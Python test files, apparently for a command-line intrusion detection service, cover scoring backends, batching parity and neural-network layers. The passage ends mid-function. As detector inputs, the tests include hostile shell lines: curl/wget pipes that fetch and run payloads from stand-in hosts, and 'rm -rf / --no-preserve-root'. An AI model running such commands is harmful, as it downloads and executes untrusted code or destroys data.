    def score_normalized(self, lines):
        return np.full(len(lines), self.score)


class CrashyService(FixedScoreService):
    """Kills its own process when asked to score a line containing CRASH."""

    def __init__(self):
        super().__init__(0.1)

    def score_normalized(self, lines):
        if any("CRASH" in line for line in lines):
            os._exit(13)
        return super().score_normalized(lines)


class SlowService(FixedScoreService):
    """Takes a while per batch — for stop()-mid-batch tests."""

    def __init__(self, delay=0.3):
        super().__init__(0.1)
        self.delay = delay

    def score_normalized(self, lines):
        import time

        time.sleep(self.delay)
        return super().score_normalized(lines)


def load_low():
    return FixedScoreService(0.25)


def load_high():
    return FixedScoreService(0.75)


def load_crashy():
    return CrashyService()


class TestSharding:
    def test_order_preserving_even_split(self):
        shards = _split_shards([f"l{i}" for i in range(10)], workers=3, min_shard=1)
        assert [len(s) for s in shards] == [4, 3, 3]
        assert [line for shard in shards for line in shard] == [f"l{i}" for i in range(10)]

    def test_small_batch_goes_to_one_worker(self):
        assert len(_split_shards(["a", "b", "c"], workers=4, min_shard=4)) == 1

    def test_empty_batch(self):
        assert _split_shards([], workers=4, min_shard=1) == []

    def test_never_more_shards_than_lines(self):
        shards = _split_shards(["a", "b"], workers=8, min_shard=1)
        assert len(shards) == 2
        assert all(shard for shard in shards)


class TestInlineBackend:
    def test_scores_and_accounts(self):
        backend = InlineBackend(FixedScoreService(0.4))

        async def scenario():
            return await backend.score(["a", "b", "c"])

        assert run(scenario()) == [0.4, 0.4, 0.4]
        assert backend.per_worker_scored == {"inline": 3}
        assert backend.workers == 1

    def test_swap_rotates_service(self):
        backend = InlineBackend(FixedScoreService(0.2))

        async def scenario():
            await backend.swap(service=FixedScoreService(0.9))
            return await backend.score(["x"])

        assert run(scenario()) == [0.9]
        assert backend.generation == 1


class TestThreadedBackend:
    def test_shards_across_threads(self, backend_workers):
        backend = ThreadedBackend(FixedScoreService(0.3), workers=backend_workers, min_shard=1)

        async def scenario():
            try:
                return await backend.score([f"line {i}" for i in range(backend_workers * 3)])
            finally:
                await backend.stop()

        scores = run(scenario())
        assert scores == [0.3] * (backend_workers * 3)
        assert backend.shards_dispatched == backend_workers
        assert sum(backend.per_worker_scored.values()) == backend_workers * 3

    def test_swap_via_loader(self):
        backend = ThreadedBackend(FixedScoreService(0.2), workers=2)

        async def scenario():
            await backend.swap(loader=load_high)
            try:
                return await backend.score(["x"])
            finally:
                await backend.stop()

        assert run(scenario()) == [0.75]

    def test_rejects_bad_config(self):
        with pytest.raises(ValueError):
            ThreadedBackend(FixedScoreService(0.1), workers=0)
        with pytest.raises(ValueError):
            ThreadedBackend(FixedScoreService(0.1), workers=2, min_shard=0)


class TestProcessPoolBackend:
    def test_requires_bundle_or_loader(self):
        with pytest.raises(ValueError):
            ProcessPoolBackend()

    def test_scores_with_worker_processes(self, backend_workers):
        backend = ProcessPoolBackend(loader=load_low, workers=backend_workers, min_shard=1)

        async def scenario():
            await backend.start(preload=True)
            try:
                return await backend.score([f"line {i}" for i in range(backend_workers * 4)])
            finally:
                await backend.stop()

        scores = run(scenario())
        assert scores == [0.25] * (backend_workers * 4)
        # every shard was scored in a worker process, not in this one
        assert all(label != f"pid-{os.getpid()}" for label in backend.per_worker_scored)
        assert sum(backend.per_worker_scored.values()) == backend_workers * 4

    def test_worker_crash_surfaces_clean_error_and_server_stays_up(self, backend_workers):
        backend = ProcessPoolBackend(loader=load_crashy, workers=backend_workers, min_shard=1)
        server = DetectionServer(FixedScoreService(0.1), backend=backend, max_latency_ms=5)

        async def scenario():
            async with server:
                with pytest.raises(WorkerCrashError):
                    await server.submit("please CRASH now")
                # the pool was rebuilt: the very next event scores normally
                result = await server.submit("ls -la")
                return result

        result = run(scenario())
        assert result.score == 0.1
        assert not result.dropped
        assert server.metrics.scoring_errors == 1

    def test_crash_mid_shared_batch_fails_all_producers_cleanly(self, backend_workers):
        backend = ProcessPoolBackend(loader=load_crashy, workers=backend_workers, min_shard=1)
        server = DetectionServer(
            FixedScoreService(0.1), backend=backend, max_batch=8, max_latency_ms=50
        )

        async def scenario():
            async with server:
                outcomes = await asyncio.gather(
                    server.submit("benign one"),
                    server.submit("benign two"),
                    server.submit("CRASH here"),
                    return_exceptions=True,
                )
                survivor = await server.submit("after the crash")
                return outcomes, survivor

        outcomes, survivor = run(scenario())
        # the whole batch shares the broken pool: every producer gets the
        # same clean error, none of them hangs
        assert all(isinstance(outcome, WorkerCrashError) for outcome in outcomes)
        assert survivor.score == 0.1


class TestStopMidBatch:
    def test_stop_during_inflight_sharded_batch_aborts_producers(self, backend_workers):
        backend = ThreadedBackend(SlowService(delay=0.4), workers=backend_workers, min_shard=1)
        server = DetectionServer(SlowService(0.0), backend=backend, max_latency_ms=5)

        async def scenario():
            await server.start()
            producers = [
                asyncio.ensure_future(server.submit(f"slow {i}")) for i in range(3)
            ]
            await asyncio.sleep(0.1)  # let the batch reach the handler
            await server.stop()
            return await asyncio.gather(*producers, return_exceptions=True)

        outcomes = run(scenario())
        assert all(isinstance(outcome, BatchAborted) for outcome in outcomes)

    def test_server_restarts_after_stop_mid_batch(self):
        backend = ThreadedBackend(SlowService(delay=0.2), workers=2, min_shard=1)
        server = DetectionServer(SlowService(0.0), backend=backend, max_latency_ms=5)

        async def scenario():
            await server.start()
            producer = asyncio.ensure_future(server.submit("slow"))
            await asyncio.sleep(0.05)
            await server.stop()
            with pytest.raises(BatchAborted):
                await producer
            # a stopped server restarts cleanly on the same loop
            async with server:
                return await server.submit("again")

        assert run(scenario()).score == 0.1


class TestBackendEquivalence:
    """For a fixed bundle and stream, all backends produce identical output.

    Events are submitted sequentially (concurrency=1), so every
    micro-batch is a singleton and the scores are **bitwise** equal —
    the encoder's length-bucketing cannot reorder anything.
    """

    EVENTS = (DEMO_BENIGN + DEMO_MALICIOUS) * 2

    def _stream(self, service, backend):
        server = DetectionServer(service, backend=backend, max_latency_ms=5)
        results, server = serve_stream(
            service, list(self.EVENTS), concurrency=1, server=server
        )
        ring_alerts = [
            (r.event_id, r.line, r.score) for r in results if r.is_intrusion
        ]
        return results, ring_alerts

    def test_all_backends_identical(self, demo_service, demo_bundle, backend_workers):
        from repro.ids.pipeline import IntrusionDetectionService

        loaded = IntrusionDetectionService.load(demo_bundle)
        inline_results, inline_alerts = self._stream(loaded, InlineBackend(loaded))
        threaded_results, threaded_alerts = self._stream(
            loaded, ThreadedBackend(loaded, workers=backend_workers)
        )
        process_results, process_alerts = self._stream(
            loaded, ProcessPoolBackend(demo_bundle, workers=backend_workers)
        )

        for other in (threaded_results, process_results):
            assert len(other) == len(inline_results)
            for a, b in zip(inline_results, other):
                assert a.raw_line == b.raw_line
                assert a.score == b.score  # bitwise
                assert a.is_intrusion == b.is_intrusion
                assert a.dropped == b.dropped
        assert inline_alerts == threaded_alerts == process_alerts
        assert inline_alerts, "the malicious demo lines must alert"

    def test_concurrent_equivalence_within_tolerance(self, demo_service, demo_bundle, backend_workers):
        """Under real concurrency batch composition varies, so scores may
        differ in the last float ulp — decisions must still agree."""
        inline_results, _ = serve_stream(
            demo_service, list(self.EVENTS), concurrency=4, max_latency_ms=10
        )
        server = DetectionServer(
            demo_service,
            backend=ProcessPoolBackend(demo_bundle, workers=backend_workers, min_shard=1),
            max_latency_ms=10,
        )
        process_results, _ = serve_stream(
            demo_service, list(self.EVENTS), concurrency=4, server=server
        )
        for a, b in zip(inline_results, process_results):
            assert abs(a.score - b.score) < 1e-9
            assert a.is_intrusion == b.is_intrusion
