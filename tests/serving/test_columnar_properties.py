"""Property-based tests: columnar scoring is bitwise-identical per-line.

These run against the real demo service (trained BPE + LM encoder +
fitted head), not a stub: the guarantee under test —
``score_batch(encode_batch(lines))`` returns the *same float64 bytes*
as ``score_normalized(lines)`` — depends on the encoder replicating its
length-bucketed chunk composition, which only the real pipeline
exercises.
"""

import string

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

# commands plus the awkward cases: empty lines, runs of whitespace,
# quotes, and non-ASCII bytes the BPE maps to [UNK]
_ALPHABET = string.ascii_letters + string.digits + "-_./|&;<>'\"$() \t" + "é¥λ"

# max_size exceeds the encoder's native batch width (32) so batches
# span multiple embed chunks, and min_size=0 covers the empty batch
lines_strategy = st.lists(
    st.text(alphabet=_ALPHABET, min_size=0, max_size=48), min_size=0, max_size=70
)


@given(lines_strategy)
@settings(max_examples=25, deadline=None)
def test_columnar_scores_are_bitwise_equal_to_per_line(demo_service, lines):
    columnar = demo_service.score_batch(demo_service.encode_batch(lines))
    reference = demo_service.score_normalized(lines)
    assert columnar.shape == reference.shape
    assert columnar.tobytes() == reference.tobytes()


@given(lines_strategy)
@settings(max_examples=15, deadline=None)
def test_raw_array_form_matches_token_batch_form(demo_service, lines):
    batch = demo_service.encode_batch(lines)
    from repro.tokenizer.columnar import TokenBatch

    rebuilt = TokenBatch.from_arrays(
        batch.ids.copy(),
        batch.lengths.copy(),
        pad_id=batch.pad_id,
        char_lengths=batch.char_lengths.copy(),
    )
    assert (
        demo_service.score_batch(rebuilt).tobytes()
        == demo_service.score_batch(batch).tobytes()
    )


def test_empty_batch_scores_empty(demo_service):
    batch = demo_service.encode_batch([])
    scores = demo_service.score_batch(batch)
    assert scores.shape == (0,)
    assert scores.tobytes() == demo_service.score_normalized([]).tobytes()
