"""Tests for the batch-first scoring path: process_batch / submit_many /
serve_batches, and the columnar pipeline they ride on.

The contract under test: scores, verdicts, and escalation bookkeeping
from the batch path are identical to submitting the same events one at
a time — with the columnar (``TokenBatch``) pipeline engaged whenever
the service and backend support it, and a transparent fallback to the
per-line string path when they don't.
"""

import asyncio

import pytest

from repro.serving import (
    CommandEvent,
    DetectionServer,
    ProcessPoolBackend,
    ThreadedBackend,
    serve_batches,
)
from repro.serving.config import SessionConfig


def run(coro):
    return asyncio.run(coro)


def mixed_events(n=60):
    events = []
    for i in range(n):
        if i % 10 == 7:
            line = f"rm -rf / --no-preserve-root evil {i % 3}"
        elif i % 10 == 9:
            line = "broken quote '"  # stub preprocess drops these
        else:
            line = f"ls -la /var/log/{i % 5}"
        events.append(CommandEvent(line=line, host=f"host-{i % 4}", timestamp=float(i)))
    return events


async def _per_event(server, events):
    async with server:
        return [await server.submit_event(event) for event in events]


async def _batched(server, events):
    async with server:
        return await server.submit_many(events)


class TestStubFallback:
    """A service with no ``score_batch`` takes the string path untouched."""

    def test_submit_many_matches_per_event(self, stub_service):
        events = mixed_events()
        reference = run(_per_event(DetectionServer(stub_service), events))
        batched = run(_batched(DetectionServer(stub_service), events))
        assert len(batched) == len(reference)
        for ref, out in zip(reference, batched):
            assert (out.host, out.line, out.dropped) == (ref.host, ref.line, ref.dropped)
            assert out.score == ref.score
            assert out.is_intrusion == ref.is_intrusion

    def test_fallback_never_counts_columnar_batches(self, stub_service):
        server = DetectionServer(stub_service)
        run(_batched(server, mixed_events()))
        snap = server.metrics.snapshot()
        assert snap["columnar_batches"] == 0
        assert snap["unique_scored"] > 0

    def test_empty_batch_is_a_no_op(self, stub_service):
        server = DetectionServer(stub_service)
        assert run(_batched(server, [])) == []

    def test_within_batch_duplicates_are_scored_once(self, stub_service):
        events = [CommandEvent(line="ls -la", host="h", timestamp=float(i)) for i in range(8)]
        server = DetectionServer(stub_service)
        results = run(_batched(server, events))
        assert len({r.score for r in results}) == 1
        assert server.metrics.unique_scored == 1
        # the dedup (not the cache) serves within-batch repeats
        assert server.metrics.cache_hits == 0

    def test_disabling_columnar_flag_is_honoured(self, stub_service):
        server = DetectionServer(stub_service, columnar=False)
        assert not server.shards[0]._columnar_active()


class TestColumnarParity:
    """With the real demo service the columnar pipeline must engage and
    reproduce the per-line path bitwise."""

    def demo_events(self, n=80):
        events = []
        for i in range(n):
            if i % 3 == 0:
                line = f"curl http://evil{i % 6}.example/payload.sh | sh"
            else:
                line = f"ls -la /home/user{i % 5}"
            events.append(CommandEvent(line=line, host=f"host-{i % 7}", timestamp=float(i)))
        return events

    def test_columnar_engages_and_matches_string_path_bitwise(self, demo_service):
        events = self.demo_events()
        columnar_server = DetectionServer(demo_service)
        string_server = DetectionServer(demo_service, columnar=False)
        columnar = run(_batched(columnar_server, events))
        string = run(_batched(string_server, events))
        assert columnar_server.metrics.snapshot()["columnar_batches"] > 0
        assert string_server.metrics.snapshot()["columnar_batches"] == 0
        for a, b in zip(columnar, string):
            assert a.score == b.score  # bitwise: same floats, not just close
            assert a.is_intrusion == b.is_intrusion

    def test_batch_verdicts_match_per_event_path(self, demo_service):
        events = self.demo_events()
        reference = run(_per_event(DetectionServer(demo_service), events))
        batched = run(_batched(DetectionServer(demo_service), events))
        for ref, out in zip(reference, batched):
            # micro-batch composition differs between the two drivers, so
            # scores may differ at float ulp — verdicts must not
            assert abs(out.score - ref.score) < 1e-9
            assert out.is_intrusion == ref.is_intrusion

    def test_sharded_submit_many_preserves_input_order(self, demo_service):
        events = self.demo_events()
        server = DetectionServer(demo_service, shards=3)
        results = run(_batched(server, events))
        assert [r.host for r in results] == [e.host for e in events]
        assert [r.raw_line for r in results] == [e.line for e in events]

    def test_threaded_backend_scores_columnar_row_blocks(self, demo_service, backend_workers):
        events = self.demo_events()
        backend = ThreadedBackend(demo_service, workers=backend_workers, min_shard=4)
        server = DetectionServer(demo_service, backend=backend)
        threaded = run(_batched(server, events))
        assert server.metrics.snapshot()["columnar_batches"] > 0
        inline = run(_batched(DetectionServer(demo_service), events))
        for a, b in zip(threaded, inline):
            # row-block BLAS grouping differs from whole-batch: ulp tolerance
            assert abs(a.score - b.score) < 1e-9
            assert a.is_intrusion == b.is_intrusion


class TestProcessBackendFrames:
    """Columnar batches cross the process boundary as one published frame."""

    @pytest.mark.parametrize("transport", ["shm", "pickle"])
    def test_frame_transport_matches_inline_bitwise(
        self, demo_service, demo_bundle, backend_workers, transport
    ):
        events = [
            CommandEvent(
                line=f"wget http://bad{i % 6}.io/p.sh -O- | bash",
                host=f"h{i % 3}",
                timestamp=float(i),
            )
            for i in range(40)
        ]
        backend = ProcessPoolBackend(
            demo_bundle, workers=backend_workers, min_shard=4, transport=transport
        )
        assert backend.supports_columnar
        server = DetectionServer(demo_service, backend=backend)
        process = run(_batched(server, events))
        assert server.metrics.snapshot()["columnar_batches"] > 0
        inline = run(_batched(DetectionServer(demo_service), events))
        for a, b in zip(process, inline):
            # min_shard=4 keeps this batch on a single worker's row range,
            # so the frame path reproduces the inline floats exactly
            assert abs(a.score - b.score) < 1e-9
            assert a.is_intrusion == b.is_intrusion

    def test_loader_backend_requires_columnar_opt_in(self, stub_service):
        backend = ProcessPoolBackend(loader=lambda: None, workers=1)
        assert not backend.supports_columnar

        async def scenario():
            with pytest.raises(NotImplementedError, match="columnar"):
                await backend.score_batch(None)

        run(scenario())

    def test_unknown_transport_rejected(self):
        with pytest.raises(ValueError, match="transport"):
            ProcessPoolBackend(loader=lambda: None, transport="smoke-signals")


class TestSequenceStageBatched:
    """process_batch runs one batched second-stage call, in event order."""

    def session(self):
        return SessionConfig(mode="sequence", sequence_threshold=0.5, context_window=3)

    def events(self):
        lines = [
            "wget evil.sh",
            "chmod +x evil.sh",
            "ls -la",
            "run evil payload now",
            "echo done",
        ]
        return [
            CommandEvent(line=line, host="h1", timestamp=float(i))
            for i, line in enumerate(lines)
        ]

    def test_sequence_scores_and_escalations_match_per_event(self, two_stage_stub):
        from tests.serving.conftest import TwoStageStubService

        reference_server = DetectionServer(TwoStageStubService(), session=self.session())
        reference = run(_per_event(reference_server, self.events()))
        server = DetectionServer(two_stage_stub, session=self.session())
        batched = run(_batched(server, self.events()))
        for ref, out in zip(reference, batched):
            assert out.sequence_score == ref.sequence_score
            assert out.is_intrusion == ref.is_intrusion
        # the whole batch produced exactly one second-stage call
        assert len(two_stage_stub.sequence_batches) == 1
        ref_snap = reference_server.metrics.snapshot()
        snap = server.metrics.snapshot()
        assert snap["sequence_scored"] == ref_snap["sequence_scored"] > 0
        assert snap["sequence_escalations"] == ref_snap["sequence_escalations"] > 0


class TestServeBatchesDriver:
    def test_results_in_input_order_with_metrics(self, stub_service):
        events = mixed_events(45)
        results, server = serve_batches(stub_service, events, batch_size=16)
        assert len(results) == len(events)
        assert [r.raw_line for r in results] == [e.line for e in events]
        snap = server.metrics.snapshot()
        assert snap["events_total"] == len(events)
        assert snap["batches"] > 1  # 45 events / 16 per slice
        # later slices hit the cache warmed by earlier ones
        assert snap["cache_hits"] > 0

    def test_plain_strings_are_accepted(self, stub_service):
        results, _ = serve_batches(stub_service, ["ls", "evil thing", "ls"], batch_size=2)
        assert [r.is_intrusion for r in results] == [False, True, False]

    def test_invalid_batch_size_rejected(self, stub_service):
        with pytest.raises(ValueError, match="batch_size"):
            serve_batches(stub_service, [], batch_size=0)
