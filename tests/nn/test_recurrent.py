"""Tests for the LSTM/GRU layers."""

import numpy as np
import pytest

from repro.nn import AdamW, Tensor, check_gradient
from repro.nn.recurrent import GRUCell, LSTM, LSTMCell


def rng():
    return np.random.default_rng(11)


class TestLSTMCell:
    def test_state_shapes(self):
        cell = LSTMCell(4, 6, rng())
        h, c = cell(Tensor(np.ones((3, 4))), cell.initial_state(3))
        assert h.shape == (3, 6)
        assert c.shape == (3, 6)

    def test_forget_bias_initialised_to_one(self):
        cell = LSTMCell(4, 6, rng())
        assert np.allclose(cell.bias.data[6:12], 1.0)

    def test_gradients_flow(self):
        cell = LSTMCell(3, 5, rng())
        h, c = cell(Tensor(np.ones((2, 3))), cell.initial_state(2))
        ((h**2).sum() + (c**2).sum()).backward()
        assert all(p.grad is not None for p in cell.parameters())

    def test_input_gradcheck(self):
        cell = LSTMCell(3, 4, rng())

        def fn(t):
            h, c = cell(t, cell.initial_state(2))
            return (h * h).sum() + c.sum()

        ok, diff = check_gradient(fn, rng().normal(size=(2, 3)))
        assert ok, diff


class TestGRUCell:
    def test_state_shape(self):
        cell = GRUCell(4, 6, rng())
        h = cell(Tensor(np.ones((3, 4))), cell.initial_state(3))
        assert h.shape == (3, 6)

    def test_input_gradcheck(self):
        cell = GRUCell(3, 4, rng())

        def fn(t):
            return (cell(t, cell.initial_state(2)) ** 2).sum()

        ok, diff = check_gradient(fn, rng().normal(size=(2, 3)))
        assert ok, diff

    def test_zero_update_gate_replaces_state(self):
        # with update ≈ 0 the output is the candidate, bounded by tanh
        cell = GRUCell(2, 3, rng())
        out = cell(Tensor(np.ones((1, 2))), Tensor(np.full((1, 3), 100.0)))
        assert np.all(np.abs(out.data) <= 100.0)


class TestLSTM:
    def test_output_shape(self):
        lstm = LSTM(4, 8, rng())
        out = lstm(Tensor(np.zeros((2, 5, 4))))
        assert out.shape == (2, 5, 8)

    def test_bptt_gradcheck(self):
        lstm = LSTM(3, 4, rng())
        ok, diff = check_gradient(lambda t: (lstm(t) ** 2).sum(), rng().normal(size=(1, 4, 3)))
        assert ok, diff

    def test_last_hidden_default(self):
        lstm = LSTM(3, 4, rng())
        x = Tensor(rng().normal(size=(2, 5, 3)))
        np.testing.assert_allclose(lstm.last_hidden(x).data, lstm(x).data[:, -1, :])

    def test_last_hidden_with_lengths(self):
        lstm = LSTM(3, 4, rng())
        x = Tensor(rng().normal(size=(2, 5, 3)))
        picked = lstm.last_hidden(x, lengths=np.array([2, 5]))
        full = lstm(x).data
        np.testing.assert_allclose(picked.data[0], full[0, 1])
        np.testing.assert_allclose(picked.data[1], full[1, 4])

    def test_can_learn_to_memorise_first_token(self):
        """The LSTM should learn to output the first input of the sequence."""
        generator = np.random.default_rng(0)
        lstm = LSTM(2, 8, np.random.default_rng(1))
        from repro.nn.layers import Linear

        head = Linear(8, 1, np.random.default_rng(2))
        params = lstm.parameters() + head.parameters()
        optimizer = AdamW(params, lr=1e-2)
        losses = []
        for _ in range(60):
            x = generator.normal(size=(8, 4, 2))
            target = x[:, 0, :1]  # first step, first feature
            optimizer.zero_grad()
            out = head(lstm.last_hidden(Tensor(x)))
            loss = ((out - Tensor(target)) ** 2).mean()
            loss.backward()
            optimizer.step()
            losses.append(loss.item())
        assert np.mean(losses[-10:]) < np.mean(losses[:10]) * 0.5
