"""Tests for Module containers, layers, and the transformer."""

import numpy as np
import pytest

from repro.errors import CheckpointError
from repro.nn import (
    MLP,
    AdamW,
    Dropout,
    Embedding,
    LayerNorm,
    Linear,
    Module,
    MultiHeadSelfAttention,
    Parameter,
    Tensor,
    TransformerBlock,
    TransformerEncoder,
    load_module,
    save_module,
)


def rng():
    return np.random.default_rng(42)


class TestLinear:
    def test_output_shape(self):
        layer = Linear(4, 3, rng())
        out = layer(Tensor(np.ones((2, 4))))
        assert out.shape == (2, 3)

    def test_no_bias(self):
        layer = Linear(4, 3, rng(), bias=False)
        assert layer.bias is None
        assert len(layer.parameters()) == 1

    def test_batched_input(self):
        layer = Linear(4, 3, rng())
        out = layer(Tensor(np.ones((2, 5, 4))))
        assert out.shape == (2, 5, 3)

    def test_kaiming_init_bounds(self):
        layer = Linear(100, 50, rng(), init_scheme="kaiming")
        bound = np.sqrt(6.0 / 100)
        assert np.abs(layer.weight.data).max() <= bound

    def test_unknown_init_raises(self):
        with pytest.raises(ValueError):
            Linear(4, 3, rng(), init_scheme="bogus")


class TestEmbedding:
    def test_lookup_shape(self):
        emb = Embedding(10, 4, rng())
        out = emb(np.array([[1, 2], [3, 4]]))
        assert out.shape == (2, 2, 4)

    def test_out_of_range_raises(self):
        emb = Embedding(10, 4, rng())
        with pytest.raises(IndexError):
            emb(np.array([10]))
        with pytest.raises(IndexError):
            emb(np.array([-1]))

    def test_gradient_sparsity(self):
        emb = Embedding(10, 4, rng())
        out = emb(np.array([1, 1, 3]))
        out.sum().backward()
        grad_rows = np.abs(emb.weight.grad).sum(axis=1)
        assert grad_rows[1] > 0 and grad_rows[3] > 0
        assert grad_rows[0] == 0 and grad_rows[2] == 0


class TestLayerNormModule:
    def test_normalizes_last_axis(self):
        norm = LayerNorm(8)
        x = Tensor(np.arange(16, dtype=float).reshape(2, 8) * 3 + 5)
        out = norm(x)
        assert np.allclose(out.data.mean(axis=-1), 0.0, atol=1e-9)
        assert np.allclose(out.data.std(axis=-1), 1.0, atol=1e-2)


class TestDropoutModule:
    def test_eval_mode_identity(self):
        drop = Dropout(0.5)
        drop.eval()
        x = Tensor(np.ones((4, 4)))
        assert drop(x) is x

    def test_train_mode_zeroes_elements(self):
        drop = Dropout(0.5, np.random.default_rng(0))
        out = drop(Tensor(np.ones((100, 100))))
        zero_fraction = float((out.data == 0).mean())
        assert 0.4 < zero_fraction < 0.6

    def test_invalid_probability(self):
        with pytest.raises(ValueError):
            Dropout(1.5)


class TestMLP:
    def test_forward_shape(self):
        head = MLP(8, 16, 2, rng())
        out = head(Tensor(np.ones((3, 8))))
        assert out.shape == (3, 2)

    @pytest.mark.parametrize("activation", ["relu", "gelu", "tanh"])
    def test_activations(self, activation):
        head = MLP(4, 8, 2, rng(), activation=activation)
        assert head(Tensor(np.ones((1, 4)))).shape == (1, 2)

    def test_unknown_activation_raises(self):
        with pytest.raises(ValueError):
            MLP(4, 8, 2, rng(), activation="swish")


class TestModuleTraversal:
    def test_named_parameters_dotted(self):
        block = TransformerBlock(8, 2, 16, rng())
        names = [name for name, _ in block.named_parameters()]
        assert "attention.query.weight" in names
        assert "ffn_norm.gamma" in names

    def test_list_of_modules_discovered(self):
        encoder = TransformerEncoder(3, 8, 2, 16, rng())
        names = [name for name, _ in encoder.named_parameters()]
        assert any(name.startswith("blocks.0.") for name in names)
        assert any(name.startswith("blocks.2.") for name in names)

    def test_zero_grad(self):
        layer = Linear(3, 3, rng())
        layer(Tensor(np.ones((1, 3)))).sum().backward()
        assert layer.weight.grad is not None
        layer.zero_grad()
        assert layer.weight.grad is None

    def test_train_eval_propagates(self):
        encoder = TransformerEncoder(2, 8, 2, 16, rng(), dropout=0.1)
        encoder.eval()
        assert all(not m.training for m in encoder.modules())
        encoder.train()
        assert all(m.training for m in encoder.modules())

    def test_num_parameters(self):
        layer = Linear(4, 3, rng())
        assert layer.num_parameters() == 4 * 3 + 3


class TestCheckpointing:
    def test_state_dict_roundtrip(self, tmp_path):
        encoder = TransformerEncoder(2, 8, 2, 16, rng())
        path = tmp_path / "model.npz"
        save_module(encoder, path)
        clone = TransformerEncoder(2, 8, 2, 16, np.random.default_rng(999))
        load_module(clone, path)
        x = Tensor(np.ones((1, 4, 8)))
        np.testing.assert_allclose(encoder(x).data, clone(x).data)

    def test_load_rejects_mismatched_architecture(self, tmp_path):
        encoder = TransformerEncoder(2, 8, 2, 16, rng())
        path = tmp_path / "model.npz"
        save_module(encoder, path)
        other = TransformerEncoder(3, 8, 2, 16, rng())
        with pytest.raises(CheckpointError):
            load_module(other, path)

    def test_load_rejects_shape_mismatch(self, tmp_path):
        layer = Linear(4, 3, rng())
        path = tmp_path / "layer.npz"
        save_module(layer, path)
        wrong = Linear(4, 5, rng())
        with pytest.raises(CheckpointError):
            load_module(wrong, path)

    def test_state_dict_is_a_copy(self):
        layer = Linear(2, 2, rng())
        state = layer.state_dict()
        state["weight"][:] = 0.0
        assert not np.allclose(layer.weight.data, 0.0)


class TestAttention:
    def test_output_shape(self):
        attn = MultiHeadSelfAttention(8, 2, rng())
        out = attn(Tensor(np.ones((2, 5, 8))))
        assert out.shape == (2, 5, 8)

    def test_indivisible_heads_raise(self):
        with pytest.raises(ValueError):
            MultiHeadSelfAttention(8, 3, rng())

    def test_padding_mask_blocks_information(self):
        attn = MultiHeadSelfAttention(8, 2, rng())
        attn.eval()
        base = np.random.default_rng(3).normal(size=(1, 4, 8))
        variant = base.copy()
        variant[0, 3, :] += 100.0  # perturb a masked position
        mask = np.array([[True, True, True, False]])
        out_base = attn(Tensor(base), mask).data
        out_variant = attn(Tensor(variant), mask).data
        # outputs at non-masked positions must not change
        np.testing.assert_allclose(out_base[0, :3], out_variant[0, :3], atol=1e-8)

    def test_gradients_flow_to_all_projections(self):
        attn = MultiHeadSelfAttention(8, 2, rng())
        out = attn(Tensor(np.random.default_rng(0).normal(size=(2, 3, 8))))
        (out**2).sum().backward()
        for parameter in attn.parameters():
            assert parameter.grad is not None


class TestTransformer:
    def test_encoder_shapes(self):
        encoder = TransformerEncoder(2, 8, 2, 16, rng())
        out = encoder(Tensor(np.ones((2, 6, 8))))
        assert out.shape == (2, 6, 8)

    def test_training_reduces_loss(self):
        generator = np.random.default_rng(0)
        encoder = TransformerEncoder(1, 8, 2, 16, np.random.default_rng(5))
        target = Tensor(generator.normal(size=(2, 4, 8)))
        x = Tensor(generator.normal(size=(2, 4, 8)))
        optimizer = AdamW(encoder.parameters(), lr=1e-2)
        losses = []
        for _ in range(20):
            optimizer.zero_grad()
            out = encoder(x)
            loss = ((out - target) ** 2).mean()
            loss.backward()
            optimizer.step()
            losses.append(loss.item())
        assert losses[-1] < losses[0] * 0.9
