"""Property tests for the compiled inference plan (bitwise parity).

The float64 contract is the whole point of :class:`InferencePlan`: a
compiled forward must produce *the same bits* as the Tensor-tape path
under ``no_grad`` — not "close", identical — across model geometries,
sequence lengths, and padding masks.  Hypothesis drives the geometry;
``np.array_equal`` (no tolerance) checks the contract.  float32 is the
explicitly-tolerance-mode precision and is tested against an error
bound instead.
"""

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.lm.config import LMConfig
from repro.lm.model import CommandLineLM
from repro.lm.pooling import pool
from repro.nn import Dropout, Tensor
from repro.nn.inference import (
    _MAX_SCRATCH_BUCKETS,
    InferenceCompileError,
    InferencePlan,
)
from repro.nn.layers import Linear
from repro.nn.module import no_grad
from repro.nn.tensor import Tensor as _Tensor


def build_model(
    *, n_heads=2, head_dim=8, n_layers=2, vocab=50, max_position=16, seed=0
) -> CommandLineLM:
    config = LMConfig(
        vocab_size=vocab,
        hidden_size=n_heads * head_dim,
        n_layers=n_layers,
        n_heads=n_heads,
        intermediate_size=4 * n_heads * head_dim,
        max_position=max_position,
        seed=seed,
    )
    model = CommandLineLM(config)
    model.eval()
    return model


def random_batch(model, batch, seq, rng, *, pad=True):
    """ids plus a mask with at least one valid position per row."""
    ids = rng.integers(0, model.config.vocab_size, size=(batch, seq), dtype=np.int64)
    if not pad:
        return ids, np.ones((batch, seq), dtype=bool)
    lengths = rng.integers(1, seq + 1, size=batch)
    mask = np.arange(seq) < lengths[:, None]
    return ids, mask


geometry = st.tuples(
    st.integers(min_value=1, max_value=3),  # heads
    st.sampled_from([4, 8]),  # head_dim
    st.integers(min_value=1, max_value=2),  # layers
    st.integers(min_value=1, max_value=4),  # batch
    st.integers(min_value=1, max_value=10),  # seq
    st.integers(min_value=0, max_value=2**31 - 1),  # weight/id seed
)


class TestFloat64Bitwise:
    @given(geometry, st.booleans())
    @settings(max_examples=25, deadline=None)
    def test_forward_bitwise_equals_tape(self, geom, use_mask):
        heads, head_dim, layers, batch, seq, seed = geom
        model = build_model(
            n_heads=heads, head_dim=head_dim, n_layers=layers, seed=seed % 1000
        )
        rng = np.random.default_rng(seed)
        ids, mask = random_batch(model, batch, seq, rng)
        plan = InferencePlan.compile(model)
        got = plan.forward(ids, mask if use_mask else None)
        with no_grad(model):
            want = model(ids, mask if use_mask else None).data
        assert got.dtype == want.dtype == np.float64
        assert np.array_equal(got, want)

    @given(geometry, st.sampled_from(["mean", "cls"]))
    @settings(max_examples=25, deadline=None)
    def test_pooled_bitwise_equals_tape(self, geom, strategy):
        heads, head_dim, layers, batch, seq, seed = geom
        model = build_model(
            n_heads=heads, head_dim=head_dim, n_layers=layers, seed=seed % 1000
        )
        rng = np.random.default_rng(seed)
        ids, mask = random_batch(model, batch, seq, rng)
        plan = InferencePlan.compile(model)
        got = plan.pooled(ids, mask, strategy).copy()
        with no_grad(model):
            want = pool(model(ids, mask), mask, strategy).data
        assert np.array_equal(got, want)

    def test_repeat_calls_reuse_scratch_and_stay_bitwise(self):
        model = build_model()
